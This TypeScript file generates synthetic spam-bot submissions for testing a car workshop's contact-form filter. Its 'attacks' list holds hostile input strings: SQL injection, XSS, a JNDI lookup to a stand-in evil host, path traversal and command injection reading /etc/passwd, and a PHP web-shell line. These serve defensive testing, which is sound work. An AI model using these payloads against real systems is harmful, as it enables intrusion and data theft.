import { bookableServices } from '../../../workshop/bookable-services.ts'
import type { Dice } from '../../testing/dice.ts'
import { adverts, heldOutAdverts } from './adverts.ts'
import type { Sample } from './sample.ts'

const attacks = [
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '$\u007bjndi:ldap://x.evil.example/a}',
  '../../../../etc/passwd',
  '{{7*7}}',
  "1' UNION SELECT password FROM users--",
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  "'; DROP TABLE enquiry; --",
  '<?php system($_GET[0]); ?>',
  '1 AND SLEEP(5)--',
  '<svg/onload=fetch("//x")>',
]
const names = [
  'Mike Johnson',
  'Eric Jones',
  'Sarah Miller',
  'Kevin',
  'Amit Sharma',
  'Jessica',
  'Leonardo',
  'RobertTut',
  'JamesDig',
  'Michaelsoync',
  'Anna K.',
  'David Brown',
  'Emily Clark',
  'Oleg',
  'Li Wei',
  'Alexgap',
  'Marketing Team',
  'Joanna Riggs',
  'Search Expert',
  'Tom',
]
const hosts = [
  'gmail.com',
  'gmail.com',
  'outlook.com',
  'mail.ru',
  'yandex.ru',
  'hotmail.com',
  'growth-hub.xyz',
  'webrank.site',
  'bk.ru',
  'aol.com',
]
const endings = ['xyz', 'top', 'ru', 'com', 'click', 'site', 'io', 'shop', 'online', 'info']
const innocent = [
  'Hello, I need a repair for my car.',
  'Please contact me about your services.',
  'How are you today?',
  'I have a question.',
  'Nice!',
  'Good information, thank you',
  'Great content on this page',
]

/**
 * A program, of one of the kinds that fill in forms: advertising by template, links, noise, attacks, everything that is
 * there including the hidden field, and a browser that needs no time.
 * @param heldOut whether its words come from the adverts on which nothing was tuned
 */
export function bot(dice: Dice, at: number, heldOut: boolean): Sample {
  const { pick, whole, chance } = dice
  const noise = (length: number) => Array.from({ length }, () => pick([...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'])).join('')
  const host = () =>
    `${pick(['best', 'top', 'my', 'go', 'get', 'the'])}-${pick(['rank', 'cash', 'deal', 'bonus', 'growth', 'leads', 'date'])}${whole(1, 99)}.${pick(endings)}`
  const url = () =>
    pick([
      `https://${host()}/${noise(6)}`,
      `http://${host()}`,
      `www.${host()}/?ref=${whole(100, 999)}`,
      `https://bit.ly/${noise(7)}`,
      `https://t.me/${noise(8)}`,
    ])
  const advert = () =>
    pick(heldOut ? heldOutAdverts : adverts).replaceAll(/\[(\w+)\]/g, (_, word: string) =>
      word === 'url' ? url() : word === 'name' ? pick(names) : pick(['cloverlea-auto.co.nz', 'your workshop', 'Cloverlea Auto Workshop']),
    )
  const simple = chance(0.5) ? { by: 'page' as const, browser: chance(0.6) } : { by: 'form' as const, browser: chance(0.7) }
  const driven = { by: 'page' as const, browser: true, pageAge: whole(200, 60_000) }
  let arrival: Sample['arrival'] = chance(0.7) ? simple : driven
  let name = pick(names)
  let message: string
  const kind = pick(['advert', 'advert', 'advert', 'advert', 'links', 'markup', 'noise', 'attack', 'trapped', 'name'] as const)
  if (kind === 'links')
    message = `${pick(['Look at this', 'Wow', 'Interesting', 'More here', '', 'Смотрите', 'Hi'])} ${Array.from({ length: whole(1, 5) }, url).join(' ')}`
  else if (kind === 'markup')
    message = pick([
      `<a href="${url()}">${pick(['casino', 'cheap', 'loans', 'here'])}</a> thanks`,
      `[url=${url()}]${noise(5)}[/url] ${noise(8)}`,
      `${pick(innocent)} <a href='${url()}'>site</a>`,
    ])
  else if (kind === 'noise') {
    message = noise(whole(10, 24))
    name = noise(whole(8, 16))
  } else if (kind === 'attack') message = `${pick(innocent)} ${pick(attacks)}`
  else if (kind === 'trapped') {
    message = pick([...innocent, advert()])
    arrival = { by: 'form', browser: chance(0.7), trapped: true }
  } else if (kind === 'name') {
    message = `${pick(innocent)} ${url()}`
    name = `${pick(['Win $1000 now', 'Claim bonus', 'Open', 'Visit'])} ${host()}`
  } else message = advert()
  const email = `${pick([
    noise(8).toLowerCase(),
    'info',
    'sales',
    `${name
      .toLowerCase()
      .replaceAll(/[^a-z]/g, '')
      .slice(0, 12)}${whole(1, 999)}`,
    'a.b.c.d.e',
  ])}@${pick(hosts)}`
  const phone = pick([
    `8${whole(1_000_000_000, 9_999_999_999)}`,
    `+1 ${whole(200, 999)} ${whole(200, 999)} ${whole(1000, 9999)}`,
    `${whole(2_000_000_000, 9_999_999_999)}`,
    `021 ${whole(100, 999)} ${whole(1000, 9999)}`,
  ])
  return {
    of: 'bots',
    id: `${kind} ${at}`,
    arrival,
    answers: chance(0.4)
      ? { name, email, phone, plate: pick(['ABC123', 'X', '12345', noise(6).toUpperCase()]), service: pick(bookableServices), message }
      : { name, email, phone, subject: pick(['Hello', 'Question', 'Your website', 'Partnership', 'Proposal', noise(9), name]), message },
  }
}
